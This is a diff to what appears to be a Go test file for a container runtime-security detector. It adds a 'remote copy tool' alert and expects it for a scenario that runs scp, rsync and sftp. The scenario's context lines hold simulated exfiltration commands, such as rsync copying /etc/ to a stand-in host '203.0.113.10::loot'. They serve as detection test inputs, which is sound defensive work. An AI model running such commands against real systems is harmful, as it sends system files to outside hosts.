@@ -20,6 +20,7 @@ const (
 	iocAlert        = "RtsecIOCBinaryExecuted"
 	newBinaryAlert  = "RtsecNewBinaryInWorkload"
 	overflowAlert   = "RtsecExecLabelBudgetOverflow"
+	remoteCopyAlert = "RtsecRemoteCopyToolInContainer"
 )
 
 // anyAlert forbids every alert on a scenario's containers.
@@ -70,7 +71,10 @@ var Scenarios = []Scenario{
 			TryCmd("/usr/bin/rsync", "-a", "/etc/", "203.0.113.10::loot"),
 			TryCmd("/usr/bin/sftp", "backup@203.0.113.10"),
 		},
-		Expect: []Match{Named(networkAlert, "binary", "scp"), Named(networkAlert, "binary", "rsync"), Named(networkAlert, "binary", "sftp")},
+		Expect: []Match{
+			Named(remoteCopyAlert, "binary", "scp"), Named(remoteCopyAlert, "binary", "rsync"), Named(remoteCopyAlert, "binary", "sftp"),
+			Named(networkAlert, "binary", "scp"), Named(networkAlert, "binary", "rsync"), Named(networkAlert, "binary", "sftp"),
+		},
 		Forbid: []Match{Named(minerAlert)},
 	},
 	{
